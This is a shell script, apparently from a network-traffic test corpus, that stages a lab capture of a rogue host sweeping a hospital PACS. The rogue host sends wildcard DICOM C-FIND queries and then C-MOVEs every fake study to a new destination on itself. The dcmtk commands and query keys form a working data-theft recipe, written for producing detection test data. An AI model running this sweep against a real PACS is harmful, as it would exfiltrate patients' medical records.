#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# attack-dicom-sweep: a host outside the imaging workflow enumerates the PACS with wildcard
# C-FINDs and then pulls every study with C-MOVE, half of them to an AE title the PACS has never
# sent to. Real dcmtk peers on the hospital LAN of hospital.sh, seen from the switch's mirror
# port.
#
#   ROGUE 10.77.40.66 (calling AE ROGUEWS)  -->  PACS 10.77.40.2:104 (dcmqrscp, AE PACS)
#   PACS  -->  WS01 10.77.40.11:104 (storescp, the usual destination)
#   PACS  -->  NEWDEST 10.77.40.66:104 (storescp on the rogue host itself, a new destination)
#
# Before the capture CT01 stores the 10 fake studies (dicom-objects.py pacs) in the PACS. Then,
# captured, all from ROGUE within seconds:
#   echoscu   1 C-ECHO
#   findscu   4 associations, 60 C-FIND-RQ, none with an exact or list key:
#             patient root, PATIENT level, PatientName=A* ... M* (13), then N* ... Z* (13)
#             study root, STUDY level, PatientID=*, StudyDate two-day ranges 20240101-20240102
#               ... 20240117-20240118 (17)
#             study root, STUDY level, PatientName=*, PatientID=*, StudyDate month ranges
#               20230101-20230131 ... 20240501-20240531 (17)
#   movescu   2 associations of 10 C-MOVE each (20 C-MOVE-RQ), study root, STUDY level, each
#             study 2.25.7731001 ... 7731010 once to WS01, then once to NEWDEST. The PACS opens
#             one association to the destination per C-MOVE and C-STOREs the study's one image.
# Port 104 is DICOM's own, so tshark decodes it without decode-as. Full snaplen.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/pair.sh"
. "$(dirname "$0")/lan.sh"
. "$(dirname "$0")/hospital.sh"
cap_need_root
out=$(cap_outdir attack-dicom-sweep)
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"; cap_cleanup' EXIT

cap_hospital dsweep
cap_hospital_pacs
cap_hospital_newdest

mkdir -p "$tmp/q"
n=0
for letters in "A B C D E F G H I J K L M" "N O P Q R S T U V W X Y Z"; do
    n=$((n + 1))
    for l in $letters; do
        cap_dicom_query "$tmp/q/p$n-$l.dcm" "(0008,0052) CS [PATIENT]" \
            "(0010,0010) PN [$l*]" "(0010,0020) LO []" "(0010,0030) DA []" "(0010,0040) CS []"
    done
done
i=1
for m in 202301 202302 202303 202304 202305 202306 202307 202308 202309 202310 202311 202312 \
    202401 202402 202403 202404 202405; do
    d=$(printf %02d $i)
    e=$(printf %02d $((i + 1)))
    cap_dicom_query "$tmp/q/s1-$d.dcm" "(0008,0052) CS [STUDY]" "(0010,0020) LO [*]" \
        "(0008,0020) DA [202401$d-202401$e]" "(0010,0010) PN []" "(0020,000d) UI []" \
        "(0008,0050) SH []"
    cap_dicom_query "$tmp/q/s2-$d.dcm" "(0008,0052) CS [STUDY]" "(0010,0010) PN [*]" \
        "(0010,0020) LO [*]" "(0008,0020) DA [${m}01-${m}31]" "(0020,000d) UI []" \
        "(0008,0050) SH []"
    i=$((i + 1))
done
for d in 01 02 03 04 05 06 07 08 09 10; do
    cap_dicom_query "$tmp/q/m-$d.dcm" "(0008,0052) CS [STUDY]" "(0020,000d) UI [2.25.77310$d]"
done

cap_start "$CAP_LAN_SENSOR" "$out/input.pcap" -i eth0 -s 0 -B 16384 tcp

r="cap_in $rogue"
$r echoscu -aet ROGUEWS -aec PACS "$pacs_ip" 104
$r findscu -P -aet ROGUEWS -aec PACS "$pacs_ip" 104 $(ls "$tmp"/q/p1-*.dcm | sort) >/dev/null 2>&1
$r findscu -P -aet ROGUEWS -aec PACS "$pacs_ip" 104 $(ls "$tmp"/q/p2-*.dcm | sort) >/dev/null 2>&1
$r findscu -S -aet ROGUEWS -aec PACS "$pacs_ip" 104 $(ls "$tmp"/q/s1-*.dcm | sort) >/dev/null 2>&1
$r findscu -S -aet ROGUEWS -aec PACS "$pacs_ip" 104 $(ls "$tmp"/q/s2-*.dcm | sort) >/dev/null 2>&1
$r movescu -S -aet ROGUEWS -aec PACS -aem WS01 "$pacs_ip" 104 $(ls "$tmp"/q/m-*.dcm | sort)
$r movescu -S -aet ROGUEWS -aec PACS -aem NEWDEST "$pacs_ip" 104 $(ls "$tmp"/q/m-*.dcm | sort)

n_ws=$(ls "$tmp/recv-WS01" | wc -l)
n_new=$(ls "$tmp/recv-NEWDEST" | wc -l)
cap_stop
if [ "$n_ws" -ne 10 ] || [ "$n_new" -ne 10 ]; then
    echo "$0: C-MOVE delivered $n_ws objects to WS01, $n_new to NEWDEST (10 each expected)" >&2
    exit 1
fi
# HOW: how it was made and tshark's reference counts (how.py).
$PY "$(dirname "$0")/how.py" "$0" "$out" tcp,dicom dcmtk
echo "$0: wrote $out/input.pcap and $out/HOW" >&2
